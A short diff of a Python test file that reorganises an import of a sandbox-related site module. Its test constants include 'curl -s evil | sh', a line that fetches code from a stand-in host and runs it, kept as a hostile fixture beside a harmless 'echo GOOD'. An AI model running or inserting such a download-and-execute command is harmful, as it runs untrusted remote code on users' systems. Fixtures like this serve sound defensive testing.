@@ -12,8 +12,9 @@ from pathlib import Path
 
 import pytest
 import yaml
-from plain_site import Ran, run
 from sandbox.process import SandboxProcess
+
+from sites.plain_site import Ran, run
 
 SCRIPT, SCRIPT_2 = "echo GOOD", "curl -s evil | sh"
 PASSWORD, PASSWORD_2 = "Pelican-over-9-bridges", "Pelican-over-8-bridges"
